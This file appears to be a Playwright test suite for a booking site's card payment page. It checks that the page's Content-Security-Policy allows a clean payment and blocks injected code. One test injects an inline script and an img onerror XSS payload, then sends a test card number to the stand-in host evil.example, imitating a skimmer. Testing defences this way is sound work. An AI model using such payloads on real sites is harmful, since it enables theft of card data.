import type { Page, Request } from '@playwright/test'
import { addDays, todayIn } from '@/lib/domain/local-date'
import { expect, test } from './fixtures/member'
import { pattern, type Translate } from './fixtures/messages'
import { checkOut, decide } from './fixtures/steps'

const DAY = addDays(todayIn('Asia/Bangkok'), 60)
const TEST_CARD = '4535017710535741'
const PAYMENT_PAGE = /\/profile\/orders\/[^/]+\/pay$/

async function typeCard(page: Page, t: Translate): Promise<void> {
  await page.getByLabel(t('payment.card.number'), { exact: true }).fill(TEST_CARD)
  await page.getByLabel(t('payment.card.name'), { exact: true }).fill('NARIN S')
  await page.getByLabel(t('payment.card.expiry'), { exact: true }).fill('05/40')
  await page.getByLabel(t('payment.card.code'), { exact: true }).fill('184')
}

const isDocument = (request: Request) => request.resourceType() === 'document'
const isReport = (request: Request) => request.url().endsWith('/api/csp-reports')

test('the page of a card is a document of its own; it pays without any violation, and once', async ({
  page,
  t,
  checkoutOfBoat,
}) => {
  const reports: string[] = []
  const orders: string[] = []
  page.on('request', (request) => {
    if (isReport(request)) reports.push(request.postData() ?? '')
    if (request.method() === 'POST' && /\/api\/orders$/.test(request.url())) orders.push(request.url())
  })
  await checkoutOfBoat(DAY)
  const opened = page.waitForResponse((response) => PAYMENT_PAGE.test(response.url()))
  await checkOut(page, t, 'gb_prime_pay_credit_card')
  const response = await opened
  expect(isDocument(response.request())).toBe(true)
  expect(response.headers()['content-security-policy']).toContain("default-src 'none'")
  await typeCard(page, t)

  // To the order and back: both are documents, so neither page has the policy of the other.
  const left = page.waitForRequest(
    (request) => isDocument(request) && /\/profile\/orders\/[^/]+$/.test(request.url()),
  )
  await page.getByRole('link', { name: t('payment.other') }).click()
  await left
  await expect(page).toHaveURL(/\/profile\/orders\/[^/]+$/)
  await page.goBack()
  await expect(page).toHaveURL(PAYMENT_PAGE)
  await typeCard(page, t)
  await page.getByRole('button', { name: pattern(t, 'payment.card.pay', ['amount']) }).click()
  await decide(page, t, 'approve')
  await expect(page.getByText(t('ui.status.confirmed')).first()).toBeVisible()
  expect(reports).toEqual([])
  expect(orders).toHaveLength(1)
})

test.describe('an injected script', () => {
  // The browser logs what it blocks.
  test.use({ quietConsole: undefined })

  test('does not run on the page of a card, reaches no other host, and is reported', {
    tag: '@thorough',
  }, async ({ page, t, checkoutOfBoat }) => {
    await checkoutOfBoat(addDays(DAY, 1))
    await checkOut(page, t, 'gb_prime_pay_credit_card')
    await expect(page.getByLabel(t('payment.card.number'), { exact: true })).toBeVisible()
    const reported = page.waitForRequest(isReport)
    const result = await page.evaluate(async () => {
      const blocked: string[] = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        blocked.push(effectiveDirective),
      )
      const script = document.createElement('script')
      script.textContent = 'window.stolen = true'
      document.body.append(script)
      const image = document.createElement('div')
      image.innerHTML = '<img src="x:" onerror="window.stolen = true">'
      document.body.append(image)
      await fetch('https://evil.example/?card=4535017710535741').catch(() => null)
      await new Promise((resolve) => setTimeout(resolve, 500))
      return { stolen: 'stolen' in window, blocked }
    })
    expect(result.stolen).toBe(false)
    expect(new Set(result.blocked)).toEqual(
      new Set(['script-src-elem', 'script-src-attr', 'connect-src', 'img-src']),
    )
    expect((await reported).postData()).toContain('csp-report')
  })
})
